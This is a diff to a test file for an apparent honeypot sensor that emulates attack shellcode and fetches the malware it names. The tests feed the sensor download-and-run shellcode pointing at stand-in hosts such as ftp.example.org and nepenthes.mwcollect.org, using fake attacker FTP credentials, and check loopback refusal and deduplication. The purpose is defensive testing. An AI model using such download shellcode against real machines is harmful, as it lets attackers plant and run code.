@@ -117,10 +117,12 @@ class HttpServer:
 
 
 class FtpServer:
-    """pyftpdlib on 127.0.0.1 with one user; mode "active" refuses
-    PASV/EPSV, "passive" refuses PORT/EPRT.  Records the data commands."""
+    """pyftpdlib on host:port with one user (1, password 1, as the
+    Honeynet attacker's); mode "active" refuses PASV/EPSV, "passive"
+    refuses PORT/EPRT.  Records the data commands."""
 
-    def __init__(self, root, port, user, password, mode):
+    def __init__(self, root, port, user="1", password="1", mode="active",
+                 host="127.0.0.1"):
         from pyftpdlib.authorizers import DummyAuthorizer
         from pyftpdlib.handlers import FTPHandler
         from pyftpdlib.servers import FTPServer
@@ -129,6 +131,7 @@ class FtpServer:
         auth.add_user(user, password, str(root), perm="elr")
         self.commands = []
         self.sent = []
+        self.retrieved = self.sent      # the name test_shell reads
         outer = self
         refused = ("PASV", "EPSV") if mode == "active" else ("PORT", "EPRT")
 
@@ -146,7 +149,7 @@ class FtpServer:
 
         Handler.authorizer = auth
         Handler.permit_privileged_ports = True
-        self.server = FTPServer(("127.0.0.1", port), Handler)
+        self.server = FTPServer((host, port), Handler)
         self.thread = threading.Thread(target=self.server.serve_forever,
                                        kwargs={"timeout": 0.1}, daemon=True)
         self.thread.start()
@@ -244,10 +247,13 @@ def test_ftp_download(sundew, tmp_path, mode):
     body = sample(120000, 3)
     (root / "w.exe").write_bytes(body)
     sha = hashlib.sha256(body).hexdigest()
-    ftp = FtpServer(root, FTP_PORT, "worm", "s3cret", mode)
+    # On 127.0.0.2, so that the sensor's end of the control connection
+    # (127.0.0.1, where active mode's data port listens) is not the
+    # server's address.
+    ftp = FtpServer(root, FTP_PORT, "worm", "s3cret", mode, "127.0.0.2")
     try:
         d = sundew([f"download.connect_to=ftp.example.org:21:"
-                    f"127.0.0.1:{FTP_PORT}"])
+                    f"127.0.0.2:{FTP_PORT}"])
         url = "ftp://worm:s3cret@ftp.example.org/w.exe"
         s = attack(url_shellcode(url), "127.0.0.23")
         session = session_of(d, "127.0.0.23")
@@ -404,8 +410,11 @@ def test_redirect_to_loopback_refused(sundew):
 
 def test_same_url_from_1000_connections_fetched_once(sundew):
     """The same URL offered by 1,000 connections from 100 sources: one
-    request reaches the server, one file is stored, 999 offers fail as
-    duplicates."""
+    request reaches the server, one file is stored, every other offer
+    fails as a duplicate.  An offer is made for each verdict whose URL
+    the emulator saw asked for; on a loaded machine an emulation may run
+    out of its budget before the call (the URL is then only "clear", and
+    not fetched), so the offers are counted against those verdicts."""
     body = sample(30000, 6)
     web = HttpServer(HTTP_PORT, {"/once.exe": body})
     payload = url_shellcode("http://once.example.org/once.exe")
@@ -417,18 +426,58 @@ def test_same_url_from_1000_connections_fetched_once(sundew):
             s = connect(GENERIC_PORT, src=f"127.0.{1 + i // 10}.{10 + i % 10}")
             s.sendall(payload)
             s.close()
-        d.wait_events("sundew.download.offer", count=n, timeout=180)
-        d.wait_events("sundew.download.failed", count=n - 1, timeout=60)
+        d.wait_events("sundew.shellcode.detected", count=n, timeout=180)
+        emulated = [e for e in d.events("sundew.shellcode.detected")
+                    if [a["evidence"] for a in e["actions"]] == ["emulated"]]
+        offers = len(emulated)
+        assert offers >= n * 9 // 10
+        d.wait_events("sundew.download.offer", count=offers, timeout=60)
+        d.wait_events("sundew.download.failed", count=offers - 1,
+                      timeout=60)
         d.wait_events("sundew.file.stored", origin="download", timeout=30)
         time.sleep(1)
         d.stop()
     finally:
         web.close()
     assert web.hits == {"/once.exe": 1}
-    assert len(d.events("sundew.download.offer")) == n
+    assert sorted(e["session"] for e in d.events("sundew.download.offer")) \
+        == sorted(e["session"] for e in emulated)
     failed = d.events("sundew.download.failed")
-    assert [e["reason"] for e in failed] == ["duplicate"] * (n - 1)
+    assert [e["reason"] for e in failed] == ["duplicate"] * (offers - 1)
     assert len(d.events("sundew.download.complete")) == 1
     assert len(d.events("sundew.file.stored", origin="download")) == 1
     sha = hashlib.sha256(body).hexdigest()
     assert [p.name for p in (d.data / "binaries").iterdir()] == [sha]
+
+
+def test_port_only_rule_changes_the_port_and_keeps_the_policy(sundew,
+                                                              tmp_path):
+    """A connect_to rule without TO_HOST changes only the port: the host
+    is resolved (here by download.hosts, to 127.0.0.1) and the policy
+    still judges the address: refused as loopback, then fetched on the
+    rule's port once download.allow lets 127.0.0.0/8 through."""
+    body = sample(20000, 7)
+    hosts = tmp_path / "hosts"
+    hosts.write_text("127.0.0.1 nepenthes.mwcollect.org\n")
+    web = HttpServer(HTTP_PORT, {"/bad.exe": body})
+    rule = f"download.connect_to=nepenthes.mwcollect.org:80::{HTTP_PORT}"
+    try:
+        d = sundew([rule, f"download.hosts={hosts}"])
+        s = attack(URL_SC.read_bytes(), "127.0.0.22")
+        session = session_of(d, "127.0.0.22")
+        failed = d.wait_events("sundew.download.failed", session=session,
+                               timeout=30)
+        s.close()
+        d.stop()
+        assert [f["reason"] for f in failed] == ["loopback"]
+        assert web.hits == {}
+        d = sundew([rule, f"download.hosts={hosts}",
+                    "download.allow=[127.0.0.0/8]"])
+        s = attack(URL_SC.read_bytes(), "127.0.0.23")
+        stored = stored_download(d, session_of(d, "127.0.0.23"))
+        s.close()
+        d.stop()
+    finally:
+        web.close()
+    assert web.hits == {"/bad.exe": 1}
+    assert stored["sha256"] == hashlib.sha256(body).hexdigest()
